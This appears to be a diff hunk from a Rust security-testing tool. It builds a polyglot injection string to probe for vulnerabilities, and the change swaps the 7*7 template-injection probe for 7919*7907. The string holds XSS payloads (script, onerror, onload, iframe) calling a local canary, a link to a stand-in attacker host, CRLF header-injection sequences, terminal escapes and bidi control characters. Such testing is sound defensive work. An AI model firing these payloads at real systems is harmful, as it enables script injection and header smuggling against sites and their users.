@@ -42,7 +42,7 @@ impl Attack {
         let (turn, to) = (self.turn, format!("http://127.0.0.1:{}", self.canary));
         format!(
             "{begin}xk3-{turn} \"'><xk3 onxk3=1><script>fetch('{to}/s')</script><img src={to}/i onerror=fetch('{to}/e')><svg onload=fetch('{to}/v')>\
-             <iframe src={to}/f></iframe><a href=http://evil-k3.example/>x</a> {{{{7*7}}}} ${{7*7}} {{% raw %}} %0d%0aX-K3:1 \r\nX-K3: 1\r\n\u{1b}[2J\
+             <iframe src={to}/f></iframe><a href=http://evil-k3.example/>x</a> {{{{7919*7907}}}} ${{7919*7907}} {{% raw %}} %0d%0aX-K3:1 \r\nX-K3: 1\r\n\u{1b}[2J\
              BEGIN:VEVENT\nEND:VCARD http://evil-k3.example/a javascript:xk3() \u{202e}\u{2066}\u{200b}\u{7}"
         )
     }
